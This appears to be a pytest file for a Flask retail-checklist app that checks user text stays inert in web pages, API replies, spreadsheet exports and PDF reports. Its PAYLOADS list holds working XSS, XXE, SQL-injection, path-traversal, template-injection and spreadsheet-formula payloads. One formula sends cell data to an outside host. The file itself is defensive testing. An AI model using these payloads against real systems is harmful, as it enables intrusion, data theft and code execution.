"""Whatever people type stays text: on pages, on paper, in spreadsheets, for programs."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from uuid import UUID, uuid4

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from pypdf import PdfReader

from checker import create_app
from checker.actions.issue_token import SCOPES, issue_token
from checker.reports.blank_form import blank_form
from checker.reports.csv import TRIGGERS
from checker.reports.look import Look
from checker.reports.text import drawable, missing_glyphs
from checker.standards.answers import clean_text
from checker.standards.parse import read_yaml
from checker.store.connection import Store, open_store
from checker.store.upgrade import create_or_migrate
from checker.words import words_for
from tests import people
from tests.browsing import Browser, Clock, signed_in_as
from tests.conftest import NOW
from tests.making_store import GOOD, publish
from tests.web import shopping

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="/etc/passwd"/>',
    '<img src="file:///etc/hostname"/>',
    '<img src="http://203.0.113.7/x.png"/>',
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    '<a href="javascript:alert(1)">here</a>',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    '<a href="file:///etc/passwd">here</a>',
    "<iframe src=//203.0.113.7></iframe>",
    "</td></tr></table><h1>Out</h1>",
    "</textarea><b>out</b>",
    "</title><b>out</b>",
    "</option></select><b>out</b>",
    "</blockquote></section>",
    "<b><i>never closed",
    "</b></i></p>",
    "<!-- a comment",
    "<![CDATA[ x ]]>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "&lt;b&gt; stays as it is",
    "&amp;amp; &#60; &nbsp;",
    "<para><font color=\"__import__('os').getcwd()\">x</font></para>",
    '<font size="9999">large</font>',
    '<font name="../../../etc/passwd">x</font>',
    "<onDraw name=print label=x/>",
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://203.0.113.7","here")',
    "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://203.0.113.7/",A1),"//a")',
    "＝1+1",  # noqa: RUF001
    "a;=1+1",
    'a","=1+1',
    "{{7*7}}",
    "{% raw %}{{ config }}",
    "${7*7}",
    "#{7*7}",
    "%(name)s %s %n %d",
    "{0.__class__} {name}",
    "'; DROP TABLE visit; --",
    '" OR ""="',
    "1' UNION SELECT name FROM person --",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "C:\\CON",
    "with\0a NUL",
    "bell\a, escape\x1b[31m and delete\x7f",
    "\u202egnirts desrever\u202c",
    "\u2066isolated\u2069 \u200bzero\u200bwidth\ufeff",
    "שלום עולם",
    "Ääkköset, żółć, ș și ț, ß",
    "👩\u200d👩\u200d👧 🏳️\u200d🌈",
    "z̷̢̛a̸l̵g̶o̵",
    "wide" * 20,
    "a\r\nb\nc\rd",
    "Set-Cookie: a=b\r\n\r\n<html>",
    "null",
    "NaN",
)

LONE = ('"\\ud800"', '"a\\udfffb"', '"\\udc00\\ud800"')
"""Halves of surrogate pairs, as JSON may write them."""

PLAIN = tuple(f"word {index}" for index, _ in enumerate(PAYLOADS))


# --- two networks of the same shape -----------------------------------------------------------------------


@dataclass
class Told:
    """A network in which people typed these texts wherever they can."""

    app: Flask
    store: Store
    key: str
    browsers: dict[str, Browser]
    texts: tuple[str, ...]
    visits: list[str] = field(default_factory=list)
    draft: str = ""

    def send(self, answers: dict[str, Any], **rest: Any) -> Any:
        """What a program is answered that sends a visit."""
        body = {
            "id": str(uuid4()),
            "checklist": "shop",
            "version": 1,
            "branch": "B001",
            "visited_at": "2026-10-05T12:00:00+03:00",
            "answers": {**GOOD, **answers},
            **rest,
        }
        return self.post(json.dumps(body))

    def post(self, source: str) -> Any:
        """The same with a body already written."""
        return self._program().post(
            "/api/v1/visits", data=source, content_type="application/json", headers=self._headers()
        )

    def get(self, path: str) -> Any:
        """What a program is answered."""
        return self._program().get(path, headers=self._headers())

    def _program(self) -> FlaskClient:
        return FlaskClient(self.app, self.app.response_class, use_cookies=False)

    def _headers(self) -> dict[str, str]:
        return {"Authorization": f"Bearer {self.key}"}


def tell(folder: Path, texts: tuple[str, ...]) -> Told:
    create_or_migrate(folder / "checker.sqlite", folder)
    store, clock = open_store(folder / "checker.sqlite"), Clock(NOW)
    app = create_app(folder, TESTING=True, CLOCK=clock, **people.CHEAP)
    app.test_client_class = Browser
    cast = {name: person(store) for name, person in people.CAST.items()}
    publish(store)
    version = shopping.publish(store)
    with store.write():
        store.db.execute("UPDATE programme SET reveal = 'at_once'")
        for index, text in enumerate(texts):
            _people_and_places(store, index, text)
            _tablet(store, index, text)
            _action(store, index, text)
    ada = cast["ada"].id
    key = issue_token(store, name="t", person_id=cast["sam"].id, scopes=SCOPES, by=ada, now=NOW)
    told = Told(app, store, key, {name: signed_in_as(app, one) for name, one in cast.items()}, texts)
    for index, text in enumerate(texts):
        told.visits.append(_visit(told, index, text))
        shopping.assign(store, cast["sam"], version, scenario=text, briefing=text, state="planned")
    told.draft = str(shopping.begin(told.browsers["sam"]))
    return told


def _people_and_places(store: Store, index: int, text: str) -> None:
    """Stored as it is: what keeps a page safe is not that nobody could enter it."""
    region = store.value("SELECT id FROM region WHERE code = 'R1'")
    home = store.value("SELECT id FROM branch WHERE code = 'B001'")
    branch = {"code": f"N{index:03}", "name": text, "region_id": region, "zone": "Europe/Helsinki"}
    store.add("branch", {**branch, "format": text, "branch_group": text})
    employee = store.add("employee", {"code": f"X{index:03}", "name": text})
    store.add("employment", {"employee_id": employee, "branch_id": home, "from_on": "2024-01-01"})


def _action(store: Store, index: int, text: str) -> None:
    """Odd ones are the network's and closed, even ones the branch's and open."""
    home = store.value("SELECT id FROM branch WHERE code = 'B001'")
    typed = dict.fromkeys(("what", "owner", "measured_by", "outcome"), clean_text(text))
    place: dict[str, Any] = {"branch_id": home}
    if index % 2:
        place = {"state": "done", "closed_on": "2026-10-10"}
    key, due = index.to_bytes(16, "big"), {"due_on": "2026-10-10", "created_at": 1}
    store.add("action", {**typed, **place, **due, "uuid": key, "programme_id": 1, "standard": text})


def _tablet(store: Store, index: int, text: str) -> None:
    said = {"agent": text, "born": text, "build": text, "protocol": 1, "unsent": 0, "drafts": 0}
    key = index.to_bytes(16, "big")
    store.add("device", {**said, "uuid": key, "token_hash": key, "first_seen": 1, "last_seen": 1})


def _visit(told: Told, index: int, text: str) -> str:
    """Odd ones name an employee, even ones describe somebody; every fifth was not completed."""
    served = {"code": f"X{index:03}"} if index % 2 else {"described": text}
    rest: dict[str, Any] = {"employees": {"served_by": served}, "context": {"emotion_after": text}}
    if index % 5 == 4:
        answer = told.send({}, outcome="other", reason=text, **rest)
    else:
        answer = told.send({"tidy": {"value": "no", "note": text}, "remark": text}, **rest)
    assert answer.status_code == 201, (text, answer.text)
    return str(answer.get_json()["id"])


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Told]:
    told = tell(tmp_path_factory.mktemp("hostile"), PAYLOADS)
    yield told
    told.app.extensions["checker.stores"].close()
    told.store.close()


@pytest.fixture(scope="module")
def plain(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Told]:
    told = tell(tmp_path_factory.mktemp("plain"), PLAIN)
    yield told
    told.app.extensions["checker.stores"].close()
    told.store.close()


# --- pages (E9) -------------------------------------------------------------------------------------------


class Skeleton(HTMLParser):
    """The marks of a page without its words, and its words without marks."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.marks: list[str] = []
        self.links: set[str] = set()
        self.said: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.marks.append(f"<{tag} {' '.join(name for name, _ in attrs)}>")
        for name, value in attrs:
            if name in ("href", "src", "action", "formaction"):
                self.links.add(value or "")
            elif name in ("value", "title", "alt", "aria-label", "content"):
                self.said.append(value or "")

    def handle_endtag(self, tag: str) -> None:
        self.marks.append(f"</{tag}>")

    def handle_comment(self, data: str) -> None:
        self.marks.append("<!-- -->")

    def handle_data(self, data: str) -> None:
        self.said.append(data)

    @property
    def text(self) -> str:
        return tight(" ".join(self.said))


def tight(text: str) -> str:
    """Without blanks, which pages and papers set as they like."""
    return "".join(text.split())


LISTS = (
    ("sam", "/"),
    ("mara", "/branches/B001"),
    ("lee", "/network?band=none"),
    ("lee", "/regions/R1"),
    ("lee", "/branches/B001"),
    ("rea", "/review"),
    ("ada", "/admin/employees?page=1"),
    ("ada", "/admin/employees?page=2"),
    ("ada", "/admin/branches?page=1"),
    ("ada", "/admin/branches?page=2"),
    ("ada", "/admin/assignments?page=1"),
    ("ada", "/admin/new-assignment"),
    ("ada", "/admin/exports"),
    ("ada", "/admin/devices"),
    ("ada", "/admin/trail"),
)


@pytest.mark.parametrize(("who", "path"), LISTS)
def test_a_page_with_hostile_words_has_the_marks_of_a_plain_one(
    hostile: Told, plain: Told, who: str, path: str
):
    same_marks(hostile, plain, who, path, path)


@pytest.mark.parametrize("index", range(len(PAYLOADS)))
def test_a_visit_shows_every_word_as_it_was_typed(hostile: Told, plain: Told, index: int):
    expected = tight(clean_text(PAYLOADS[index]))
    for who, rest in (("mara", ""), ("rea", ""), ("rea", "/revise"), ("lee", ""), ("sam", "/receipt")):
        paths = [f"/visits/{told.visits[index]}{rest}" for told in (hostile, plain)]
        page = same_marks(hostile, plain, who, *paths)
        # To Lee employees are codes, and they are called what was written: their names are blanked.
        if who != "lee" and rest != "/receipt" and not (rest == "/revise" and index % 5 == 4):
            assert expected in page.text, who


@pytest.mark.parametrize("index", range(len(PAYLOADS)))
def test_an_action_shows_every_word_as_it_was_typed(hostile: Told, plain: Told, index: int):
    path = f"/actions/{UUID(bytes=index.to_bytes(16, 'big'))}"
    page = same_marks(hostile, plain, "lee" if index % 2 else "mara", path, path)
    assert page.text.count(tight(clean_text(PAYLOADS[index]))) >= 3


@pytest.mark.parametrize("index", range(len(PAYLOADS)))
def test_an_employee_and_a_branch_of_any_name_have_their_pages(hostile: Told, plain: Told, index: int):
    for who, path in (
        ("ada", f"/admin/employees/X{index:03}"),
        ("ada", f"/admin/branches/N{index:03}"),
        ("mara", f"/employees/X{index:03}"),
        ("lee", f"/branches/N{index:03}"),
    ):
        same_marks(hostile, plain, who, path, path)


def same_marks(hostile: Told, plain: Told, who: str, path: str, plain_path: str) -> Skeleton:
    """Ask both; nothing fails, no mark and no attribute is new, every link stays in the house."""
    found, usual = hostile.browsers[who].get(path), plain.browsers[who].get(plain_path)
    assert (found.status_code, usual.status_code) == (200, 200), path
    page, other = Skeleton(found.text), Skeleton(usual.text)
    assert page.marks == other.marks
    for link in page.links:
        assert re.match(r"/(?!/)|#|\?|$", link), link
    return page


def test_a_draft_holds_what_was_typed_in_every_input(hostile: Told):
    """What is typed comes back in the value of an input, or between the marks of a text area."""
    browser, path = hostile.browsers["sam"], f"/visits/{hostile.draft}"
    empty = Skeleton(browser.get(path).text)
    assert empty.marks
    for text in PAYLOADS:
        answer = browser.post(
            path,
            data={
                "answers.hello": "yes",
                "answers.first_words": text,
                "answers.true_words.note": text,
                "context.emotion_after": text,
                "employees.served_by.described": text,
                **shopping.hidden(browser.get(path).text),
                "do": "save",
            },
        )
        assert answer.status_code in (303, 422), (text, answer.status_code)
        page = browser.get(path)
        assert page.status_code == 200
        marks = {mark for mark in Skeleton(page.text).marks if mark.startswith("<script")}
        assert marks == {mark for mark in empty.marks if mark.startswith("<script")}
        assert not re.search(r"<(svg onload|img src=x|iframe|b|h1)\b[^>]*>(alert|out|Out)", page.text)
        assert browser.get(f"{path}/review").status_code == 200


# --- programs ---------------------------------------------------------------------------------------------


def test_a_program_gets_back_what_was_sent(hostile: Told):
    for index, text in enumerate(PAYLOADS):
        answer = hostile.get(f"/api/v1/visits/{hostile.visits[index]}")
        assert answer.status_code == 200
        said = answer.get_json()
        if index % 5 == 4:
            assert said["reason"] == clean_text(text)
        else:
            assert said["answers"]["tidy"] == {"value": "no", "note": clean_text(text)}
            assert said["answers"]["remark"] == clean_text(text)
        assert said["context"]["emotion_after"] == clean_text(text)


@pytest.mark.parametrize("lone", LONE)
@pytest.mark.parametrize("place", ["id", "branch", "reason", "remark", "note", "described", "key", "context"])
def test_half_a_character_breaks_nothing(plain: Told, lone: str, place: str):
    """Valid JSON, and no text: it is cleaned or refused, in words."""
    half = json.loads(lone)
    body: dict[str, Any] = {
        "id": str(uuid4()),
        "checklist": "shop",
        "version": 1,
        "branch": "B001",
        "visited_at": "2026-10-05T12:00:00+03:00",
        "answers": dict(GOOD),
    }
    match place:
        case "remark":
            body["answers"]["remark"] = half
        case "note":
            body["answers"]["tidy"] = {"value": "no", "note": half}
        case "described":
            body["employees"] = {"served_by": {"described": half}}
        case "context":
            body["context"] = {"emotion_after": half}
        case "key":
            body[half] = 1
        case _:
            body[place] = half
    answer = plain.post(json.dumps(body))
    assert answer.status_code in (201, 400, 422), answer.text
    answer.data.decode("utf-8")
    answer.get_json()


# --- spreadsheets (E10) -----------------------------------------------------------------------------------

EXPORTS = (("visits", "employee_names"), ("answers", "note"))


def exported(told: Told, what: str, kind: str) -> bytes:
    answer = told.browsers["ada"].post("/admin/exports", data={"what": what, "format": kind, "names": "y"})
    assert answer.status_code == 200
    return bytes(answer.data)


@pytest.mark.parametrize(("what", "column"), EXPORTS)
def test_no_cell_of_a_csv_begins_like_a_formula(hostile: Told, what: str, column: str):
    rows = list(csv.DictReader(io.StringIO(exported(hostile, what, "csv").decode("utf-8-sig"), newline="")))
    assert len(rows) >= len(PAYLOADS) * 4 // 5
    for row in rows:
        for value in row.values():
            assert not value.startswith(TRIGGERS) or re.fullmatch(r"[+-]?[0-9.,]+", value), value
    held = {row[column].removeprefix("'") for row in rows}
    assert {"=1+1", "@SUM(A1:A9)", "＝1+1"} & held  # noqa: RUF001


@pytest.mark.parametrize(("what", "column"), EXPORTS)
def test_every_cell_of_an_xlsx_is_text_or_a_number(hostile: Told, what: str, column: str):
    book = load_workbook(io.BytesIO(exported(hostile, what, "xlsx")))
    cells = [cell for row in book.active.iter_rows() for cell in row]  # type: ignore[union-attr]
    assert {cell.data_type for cell in cells} <= {"s", "n", "b", "d"}
    assert not any(cell.hyperlink for cell in cells)
    assert any(str(cell.value).startswith("=") for cell in cells), "the text is there, as text"


def test_json_is_json(hostile: Told):
    rows = json.loads(exported(hostile, "answers", "json"))
    assert "<script>alert(1)</script>" in json.dumps(rows)


# --- paper (E9) -------------------------------------------------------------------------------------------

touched: list[str] = []
watching = False


def _watch(event: str, arguments: tuple[Any, ...]) -> None:
    if watching and event in ("open", "socket.connect", "socket.getaddrinfo", "subprocess.Popen"):
        touched.append(f"{event} {arguments[0]}")


@contextmanager
def watched() -> Iterator[list[str]]:
    """What is opened, asked for and started meanwhile."""
    global watching
    if not getattr(sys, "_checker_watched", False):
        sys.addaudithook(_watch)
        sys._checker_watched = True  # type: ignore[attr-defined]
    touched.clear()
    watching = True
    try:
        yield touched
    finally:
        watching = False


def test_what_watches_sees(tmp_path: Path):
    """The twin: a picture taken from a path would be noticed."""
    (tmp_path / "x").write_text("x")
    with watched() as seen:
        (tmp_path / "x").read_text()
    assert any(str(tmp_path / "x") in one for one in seen)


def own(event: str, instance: Path) -> bool:
    """Whether something opened is the program's: its code and fonts, the interpreter, the instance."""
    kind, _, path = event.partition(" ")
    roots = (Path(__file__).parents[1], sys.prefix, sys.base_prefix, "/usr/share/zoneinfo", instance)
    return kind == "open" and (path.isdigit() or path.startswith(tuple(map(str, roots))))


def on_paper(source: bytes, folder: Path) -> str:
    """The words of a PDF as a reader finds them; it has no link, no script and nothing attached."""
    pdf = PdfReader(io.BytesIO(source))
    for page in pdf.pages:
        for held in page.get("/Annots") or []:
            action = held.get_object().get("/A", {})
            assert "/URI" not in action and "/JS" not in action and action.get("/S") in (None, "/GoTo")
    root = pdf.trailer["/Root"]
    assert "/OpenAction" not in root or "/JS" not in str(root["/OpenAction"])  # type: ignore[operator]
    assert "/EmbeddedFiles" not in str(root)
    file = folder / "paper.pdf"
    file.write_bytes(source)
    command = ["pdftotext", "-layout", "-enc", "UTF-8", str(file), "-"]
    return tight(subprocess.run(command, check=True, capture_output=True).stdout.decode())


def legible(text: str) -> bool:
    """Whether a reader must find the text as typed: every glyph is there, and it runs from the left."""
    return not missing_glyphs(text) and not re.search("[\u0590-\u08ff\u0300-\u036f]", text)


@pytest.mark.parametrize(
    ("who", "scope"), [("mara", "branch:B001"), ("lee", "network"), ("lee", "region:R1")]
)
def test_reports_are_made_whatever_somebody_is_called(hostile: Told, tmp_path: Path, who: str, scope: str):
    ask = {"month": "2026-10", "series": "shop-mystery_shopping", "language": "en", "scope": scope}
    audience = "manager" if who == "mara" else "leadership"
    with watched() as seen:
        answer = hostile.browsers[who].post("/reports", data={**ask, "audience": audience})
    assert answer.status_code == 200 and answer.mimetype == "application/pdf"
    instance = Path(hostile.app.instance_path)
    assert [event for event in seen if not own(event, instance)] == []
    said = on_paper(answer.data, tmp_path)
    if who == "mara":  # names stand in a column, so long ones are cut
        shown = [text for text in PAYLOADS if tight(drawable(text))[:6] in said]
        assert len(shown) > len([text for text in PAYLOADS if legible(text)]) * 0.9


@pytest.mark.parametrize(
    ("who", "scope"), [("mara", "branch:B001"), ("lee", "network"), ("lee", "region:R1")]
)
def test_reports_are_read_whatever_somebody_is_called(hostile: Told, plain: Told, who: str, scope: str):
    audience = "manager" if who == "mara" else "leadership"
    asked = f"month=2026-10&series=shop-mystery_shopping&language=en&scope={scope}&audience={audience}"
    path = f"/reports/read?{asked}"
    page = same_marks(hostile, plain, who, path, path)
    if who == "mara":
        for text in PAYLOADS:  # as it stands in the database, or as it was entered
            assert tight(text) in page.text or tight(clean_text(text)) in page.text, text


def test_a_form_prints_every_word_as_it_was_written(tmp_path: Path):
    texts = [clean_text(text) for text in PAYLOADS]
    items = [
        {"id": f"q{index}", "type": "yes_no_na", "points": 1, "axis": "standard", "level": "branch"}
        | {"text": {"en": text}, "help": {"en": text}}
        for index, text in enumerate(texts)
    ]
    source = {
        "id": "odd",
        "version": 1,
        "title": {"en": texts[0]},
        "languages": ["en"],
        "sections": [{"id": "all", "title": {"en": texts[1]}, "items": items}],
    }
    checklist = read_yaml(json.dumps(source, ensure_ascii=True), "odd.yaml")
    with watched() as seen:
        made = blank_form(checklist, words_for("en"), look=Look(texts[2]))
    assert [event for event in seen if not own(event, tmp_path)] == []
    said = on_paper(made, tmp_path)
    missing = [text for text in texts if legible(text) and tight(drawable(text)) not in said]
    assert missing == []
